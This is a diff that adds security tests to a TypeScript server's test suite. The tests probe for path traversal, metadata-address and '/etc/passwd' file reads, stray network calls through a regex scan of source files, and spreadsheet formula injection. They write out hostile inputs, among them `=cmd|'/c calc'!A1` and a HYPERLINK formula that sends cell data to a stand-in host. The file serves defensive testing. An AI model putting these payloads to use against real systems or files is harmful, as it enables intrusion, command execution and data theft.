@@ -1,11 +1,15 @@
 /** The API against people who mean harm, and against nonsense: roles, sites, sizes, paths, names, ten hundred malformed requests. */
+import { readdirSync, readFileSync } from "node:fs";
+import { join } from "node:path";
+import { strFromU8, unzipSync } from "fflate";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createAPI, documentOf } from "../../apps/server/app.ts";
+import { cell } from "../../src/report/csv.ts";
 import { createToken, createWorkspace } from "../../apps/server/store/tokens.ts";
 import type { Role } from "../../apps/server/store/tables.ts";
 import { fuzzRequests } from "./fuzz-requests.ts";
 import { SMALL_CAMPUS } from "../../scripts/small-campus.ts";
-import { startTestServer, until } from "./harness.ts";
+import { ROOT, startTestServer, until } from "./harness.ts";
 import type { TestServer } from "./harness.ts";
 
 let server: TestServer;
@@ -233,6 +237,10 @@ describe("where a request comes from", () => {
       const answer = await server.ask(path);
       expect(await answer.text(), path).not.toContain('"license"');
     }
+    for (const name of ["..%2f..%2fpackage.json", "%2e%2e%2fpassword", "..%5cpassword", "%00"]) {
+      const path = `/api/v1/plans/00000000-0000-4000-8000-000000000000/files/${name}`;
+      expect((await server.ask(path)).status, path).toBe(404);
+    }
     const text = `${SMALL_CAMPUS}    weather: { file: "http://169.254.169.254/latest.csv" }\n`;
     for (const file of ["http://169.254.169.254/latest.csv", "/etc/passwd", "../../etc/passwd"]) {
       const body = { text: text.replace("http://169.254.169.254/latest.csv", file) };
@@ -242,6 +250,20 @@ describe("where a request comes from", () => {
       expect(found.issues[0]!.code).toBe("file");
     }
   });
+});
+
+it("has nothing in its program that could fetch an address a person names", () => {
+  const found = ["src", "apps/server", "apps/cli"].flatMap((folder) =>
+    readdirSync(join(ROOT, folder), { recursive: true, encoding: "utf8" })
+      .filter((file) => file.endsWith(".ts") && !file.endsWith(".test.ts"))
+      .filter((file) =>
+        /(?<!\.)\bfetch\(|globalThis\.fetch|XMLHttpRequest|new WebSocket|node:(https?|http2|tls|dgram)"|\bconnect\(\{?\s*(host|port)/.test(
+          readFileSync(join(ROOT, folder, file), "utf8"),
+        ),
+      )
+      .map((file) => `${folder}/${file}`),
+  );
+  expect(found).toEqual([]);
 });
 
 describe("what a request carries", () => {
@@ -299,6 +321,37 @@ describe("what a request carries", () => {
     const list = await server.ask("/api/v1/plans");
     expect(list.headers.get("content-type")).toContain("application/json");
     expect(list.headers.get("x-content-type-options")).toBe("nosniff");
+  });
+
+  it("never lets a name become a formula: in the workbook it is text, in CSV it is guarded", async () => {
+    for (const begin of ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"])
+      expect(cell(`${begin}cmd|'/c calc'!A1`), JSON.stringify(begin)).toMatch(/^"?'/);
+    for (const plain of ["-1.5", "+2", "A1=B2"]) expect(cell(plain)).toBe(plain);
+    const name = `=HYPERLINK("http://x.example/"&A1)`;
+    const worker = server.startWorker();
+    const asked = await server.ask("/api/v1/plans", {
+      method: "POST",
+      body: {
+        scenario: { text: SMALL_CAMPUS.replace("Small campus", `'${name}'`) },
+        set: ["finance={}"],
+        confirm: 0,
+      },
+    });
+    const { id } = (await asked.json()) as { id: string };
+    const file = await until(async () => {
+      const answer = await server.ask(`/api/v1/plans/${id}/files/workbook.xlsx`);
+      return answer.status === 200 ? answer : undefined;
+    });
+    await worker.close();
+    const parts = Object.values(unzipSync(new Uint8Array(await file.arrayBuffer()))).map((part) =>
+      strFromU8(part),
+    );
+    const formulas = parts.flatMap((part) => part.match(/<f>[^<]*<\/f>/g) ?? []);
+    expect(formulas.length).toBeGreaterThan(100);
+    expect(formulas.filter((formula) => formula.includes("HYPERLINK"))).toEqual([]);
+    const texts = parts.flatMap((part) => part.match(/<(t|v)[^>]*>[^<]*HYPERLINK/g) ?? []);
+    expect(texts.length).toBeGreaterThan(0);
+    for (const text of texts) expect(text).toMatch(/>[^=+@<-][^<]*HYPERLINK/);
   });
 
   it("answers 500 malformed requests with 4xx and a reason, never 5xx", async () => {
